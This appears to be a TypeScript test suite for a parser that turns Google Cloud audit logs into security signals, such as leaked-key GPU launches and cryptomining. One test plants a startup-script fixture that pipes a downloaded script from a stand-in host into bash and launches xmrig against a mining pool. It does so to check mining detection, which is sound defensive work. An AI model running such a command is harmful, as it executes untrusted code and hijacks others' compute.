import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { describe, it } from 'node:test';

import { parseAuditLog } from '#src/connectors/gcp/audit-log.parser.js';
import { PayloadValidationError, type ParseContext, type Signal, type ValidationIssue } from '#src/connectors/signal.js';
import { readFixture } from '../../../support/fixtures.js';

const ctx: ParseContext = { receivedAt: new Date('2025-01-01T00:00:00Z'), query: {} };
// Fixtures are arbitrary cloud JSON that the tests reach into and mutate; typing every shape would add nothing.

type Json = Record<string, any>;

const fixture = (name: string) => readFixture<Json>(`gcp/audit-log/${name}`);
const parse = (body: unknown) => parseAuditLog(body, ctx);
const withoutRaw = (signals: Signal[]) => signals.map(({ raw: _raw, ...rest }) => rest);

function issuesOf(body: unknown): ValidationIssue[] {
  try {
    parse(body);
  } catch (error) {
    assert.ok(error instanceof PayloadValidationError, `expected PayloadValidationError, got ${String(error)}`);
    return error.issues;
  }
  assert.fail('expected the payload to be rejected');
}

const LEAKED_KEY_PRINCIPAL = {
  identity: 'ci-deployer@acme-ml-training.iam.gserviceaccount.com',
  name: null,
  accessKeyId: '4f1a0c9b7e2d63a58c0b1e2f3a4d5c6b7e8f9a0b',
  sourceIp: '198.51.100.77',
  userAgent: 'google-api-python-client/2.108.0 (gzip),gzip(gfe)',
};
const ACTIVITY = 'projects/acme-ml-training/logs/cloudaudit.googleapis.com%2Factivity';

describe('parseAuditLog', () => {
  it('reads an entries.list response: a leaked key launching GPU VMs, first and last entries merged per operation', () => {
    const response = fixture('entries-list-leaked-key-gpu-inserts.json');
    const { signals, ignored } = parse(response);
    assert.equal(ignored, 0);
    assert.equal(signals.length, 3, 'five entries, three operations');
    assert.deepEqual(signals[0], {
      source: 'gcp.audit-log',
      sourceId: `${ACTIVITY}#operation:compute.googleapis.com/operation-1718236800123-61aa7a9f0e4c1-6b1f8c2e-3d9a5b7c`,
      sourceVersion: '2024-06-13T00:00:21.903Z#3',
      kind: 'provisioning',
      provider: 'gcp',
      accountId: 'acme-ml-training',
      region: 'us-central1',
      observedAt: '2024-06-13T00:00:00.412Z',
      observedUntil: '2024-06-13T00:00:21.903Z',
      severity: 'MEDIUM',
      title: 'v1.compute.instances.insert: 1 × a2-highgpu-8g by ci-deployer@acme-ml-training.iam.gserviceaccount.com',
      mining: false,
      resources: [
        {
          provider: 'gcp',
          accountId: 'acme-ml-training',
          region: 'us-central1',
          type: 'gcp.compute.instance',
          id: '//compute.googleapis.com/projects/acme-ml-training/zones/us-central1-a/instances/train-a100-01',
          instanceType: 'a2-highgpu-8g',
        },
      ],
      principal: LEAKED_KEY_PRINCIPAL,
      cost: null,
      attributes: {
        eventName: 'v1.compute.instances.insert',
        serviceName: 'compute.googleapis.com',
        costIncurring: true,
        errorCode: null,
        errorMessage: null,
        instanceType: 'a2-highgpu-8g',
        instanceTypes: ['a2-highgpu-8g'],
        instanceFamily: 'a2',
        gpuInstance: true,
        accelerators: [],
        instanceCount: 1,
        instanceId: '6837514009281146213',
        spot: true,
        operationId: 'operation-1718236800123-61aa7a9f0e4c1-6b1f8c2e-3d9a5b7c',
        operationPhases: ['first', 'last'],
        labels: {},
      },
      raw: [response['entries'][0], response['entries'][1]],
    });
    const [, t4, refused] = signals;
    assert.equal(
      t4!.title,
      'v1.compute.instances.insert: 1 × n1-standard-16 with 4 × nvidia-tesla-t4 by ci-deployer@acme-ml-training.iam.gserviceaccount.com',
    );
    assert.deepEqual(t4!.attributes['accelerators'], [{ type: 'nvidia-tesla-t4', count: 4 }]);
    assert.equal(t4!.attributes['gpuInstance'], true, 'an N1 VM with attached GPUs');
    assert.equal(t4!.region, 'europe-west4');
    // The quota refusal costs nothing and launched nothing, but trying for A100s is still worth a look.
    assert.deepEqual(
      [
        refused!.severity,
        refused!.attributes['costIncurring'],
        refused!.attributes['errorCode'],
        refused!.resources,
        refused!.attributes['operationPhases'],
      ],
      ['MEDIUM', false, 'RESOURCE_EXHAUSTED', [], ['first', 'last']],
    );
    assert.equal(refused!.attributes['errorMessage'], "Quota 'NVIDIA_A100_GPUS' exceeded.  Limit: 0.0 in region asia-east1.");
    assert.ok(refused!.title.endsWith('failed (RESOURCE_EXHAUSTED)'));
  });

  it('keeps the first entry of an operation and lets its last entry, sent later, update it', () => {
    const response = fixture('entries-list-leaked-key-gpu-inserts.json');
    const [first] = parse(response['entries'][0]).signals;
    const [last] = parse(response['entries'][1]).signals;
    assert.equal(first!.sourceId, last!.sourceId);
    assert.equal(first!.sourceVersion, '2024-06-13T00:00:00.412Z#1');
    assert.ok(last!.sourceVersion > first!.sourceVersion);
    assert.equal(first!.attributes['instanceType'], 'a2-highgpu-8g');
    // A last entry carries only the request's @type, so on its own it cannot say the machine type.
    assert.equal(last!.attributes['instanceType'], null);
    assert.deepEqual(last!.attributes['operationPhases'], ['last']);
  });

  it('maps the real instances.insert first entry (elastic/integrations test data): no GPU, low severity', () => {
    const entry = fixture('entry-instances-insert-elastic.json');
    const [signal] = parse(entry).signals;
    assert.deepEqual(
      [
        signal!.severity,
        signal!.mining,
        signal!.attributes['costIncurring'],
        signal!.attributes['gpuInstance'],
        signal!.attributes['instanceType'],
      ],
      ['LOW', false, true, false, 'n2-standard-4'],
    );
    assert.deepEqual(signal!.principal, {
      identity: 'project-id@cloudservices.gserviceaccount.com',
      name: null,
      accessKeyId: null,
      sourceIp: '175.16.199.45',
      userAgent: 'Google-Deployment-Manager,gzip(gfe)',
    });
    assert.deepEqual(
      signal!.resources.map((r) => r.id),
      ['//compute.googleapis.com/projects/project-id/zones/us-central1-a/instances/x-logs'],
    );
    assert.equal(signal!.attributes['instanceId'], '2525602744967966726');
    assert.equal(signal!.raw, entry);
  });

  it('maps a real last entry on its own (gcplearn9 sample)', () => {
    const [signal] = parse(fixture('entry-instances-insert-last-gcplearn9.json')).signals;
    assert.equal(
      signal!.sourceId,
      'projects/gcplearn9/logs/cloudaudit.googleapis.com%2Factivity#operation:compute.googleapis.com/operation-1716520299815-6192a86b860a0-7af27a85-14ace3e5',
    );
    assert.equal(signal!.sourceVersion, '2024-05-24T03:11:47.971Z#3');
    assert.equal(signal!.principal!.identity, 'dkalyanreddy@gmail.com');
    assert.deepEqual(
      signal!.resources.map((r) => [r.id, r.instanceType]),
      [['//compute.googleapis.com/projects/gcplearn9/zones/us-central1-a/instances/vm1-audit', null]],
    );
  });

  it('decodes a log sink Pub/Sub push: a Cloud Run service deploying a miner image is mining', () => {
    const envelope = fixture('pubsub-push-cloud-run-xmrig.json');
    const [signal] = parse(envelope).signals;
    assert.deepEqual(
      [
        signal!.mining,
        signal!.severity,
        signal!.attributes['minerIndicator'],
        signal!.attributes['techniques'],
        signal!.attributes['costIncurring'],
      ],
      [true, 'HIGH', 'docker.io/xmrig/xmrig:6.21.0', ['T1496'], true],
    );
    assert.deepEqual(signal!.resources, [
      {
        provider: 'gcp',
        accountId: 'acme-ml-training',
        region: 'us-central1',
        type: 'gcp.run.service',
        id: '//run.googleapis.com/projects/acme-ml-training/locations/us-central1/services/thumbnailer',
      },
    ]);
    assert.deepEqual(
      [signal!.principal!.identity, signal!.principal!.accessKeyId, signal!.principal!.sourceIp],
      [LEAKED_KEY_PRINCIPAL.identity, LEAKED_KEY_PRINCIPAL.accessKeyId, LEAKED_KEY_PRINCIPAL.sourceIp],
    );
    // raw is the log entry the message carried, not the push envelope.
    assert.deepEqual(signal!.raw, JSON.parse(Buffer.from(envelope['message']['data'], 'base64').toString('utf8')));
  });

  it('reads an array of entries: a GKE GPU node pool, a read, and a platform log it ignores', () => {
    const { signals, ignored } = parse(fixture('entries-array-gke-gpu-pool-read-and-platform.json'));
    assert.equal(ignored, 1, 'the jsonPayload entry carries no AuditLog');
    const [pool, read] = signals;
    assert.deepEqual(withoutRaw([pool!])[0]!.attributes, {
      eventName: 'google.container.v1.ClusterManager.CreateNodePool',
      serviceName: 'container.googleapis.com',
      costIncurring: true,
      errorCode: null,
      errorMessage: null,
      instanceType: 'g2-standard-48',
      instanceTypes: ['g2-standard-48'],
      instanceFamily: 'g2',
      gpuInstance: true,
      accelerators: [{ type: 'nvidia-l4', count: 4 }],
      instanceCount: 3,
      instanceId: null,
      spot: true,
      operationId: 'operation-1718236840001-4f2a9c1e',
      operationPhases: ['first'],
      labels: {},
    });
    assert.deepEqual(
      pool!.resources.map((r) => [r.type, r.id]),
      [['gcp.gke.cluster', '//container.googleapis.com/projects/acme-ml-training/locations/us-central1/clusters/batch']],
    );
    assert.deepEqual([read!.severity, read!.attributes['costIncurring'], read!.resources], ['INFO', false, []]);
    assert.equal(read!.sourceId, 'projects/acme-ml-training/logs/cloudaudit.googleapis.com%2Fdata_access#-2b4d6f8h0j1l');
  });

  it('reads a VM startup script that runs a miner, and names the project from a number-spelled resourceName', () => {
    const entry = structuredClone(fixture('entry-instances-insert-elastic.json'));
    entry.protoPayload.resourceName = 'projects/271828182845/zones/us-central1-a/instances/x-logs';
    entry.protoPayload.request.metadata = {
      items: [{ key: 'startup-script', value: 'curl -sL https://example.invalid/x | bash; ./xmrig -o pool.supportxmr.com:3333' }],
    };
    const [signal] = parse(entry).signals;
    assert.equal(signal!.mining, true);
    assert.deepEqual(
      signal!.resources.map((r) => r.id),
      ['//compute.googleapis.com/projects/project-id/zones/us-central1-a/instances/x-logs'],
    );
  });

  it('names every bad entry of an entries.list response by index and pointer', () => {
    assert.deepEqual(issuesOf(fixture('entries-list-malformed.json')), [
      { index: 1, field: '/entries/1/timestamp', message: 'must be an ISO 8601 date or date-time with a zone, e.g. 2024-01-31T12:00:00Z' },
      { index: 2, field: '/entries/2/operation/first', message: 'must be true or false' },
      { index: 2, field: '/entries/2/protoPayload/methodName', message: 'is required' },
    ]);
  });

  it('reports bad base64 in a push request at /message/data and fields inside the decoded entry below it', () => {
    const envelope = fixture('pubsub-push-cloud-run-xmrig.json');
    assert.deepEqual(issuesOf({ ...envelope, message: { ...envelope['message'], data: 'eyJpbnNlcnRJZCI6=' } }), [
      { index: 0, field: '/message/data', message: 'is not valid base64' },
    ]);
    const entry = JSON.parse(Buffer.from(envelope['message']['data'], 'base64').toString('utf8'));
    delete entry.insertId;
    const data = Buffer.from(JSON.stringify(entry)).toString('base64');
    assert.deepEqual(issuesOf([envelope, { ...envelope, message: { ...envelope['message'], data } }]), [
      { index: 1, field: '/1/message/data/insertId', message: 'is required' },
    ]);
  });

  it('rejects entries naming no project and bodies that are no entries', () => {
    const entry = structuredClone(fixture('entry-instances-insert-elastic.json'));
    delete entry.resource;
    delete entry.logName;
    entry.protoPayload.resourceName = 'zones/us-central1-a/instances/x-logs';
    assert.deepEqual(issuesOf(entry), [
      { index: 0, field: '/resource/labels/project_id', message: 'is required (or a logName or resourceName naming the project)' },
    ]);
    assert.deepEqual(issuesOf({ entries: 'none' }), [{ index: null, field: '/entries', message: 'must be an array, got string' }]);
    assert.deepEqual(issuesOf([{ insertId: 'x', timestamp: '2024-06-13T00:00:00Z', protoPayload: 'AuditLog' }]), [
      { index: 0, field: '/0/protoPayload', message: 'must be an object' },
    ]);
    assert.deepEqual(parse({ entries: [], nextPageToken: '' }), { signals: [], ignored: 0 });
  });
});
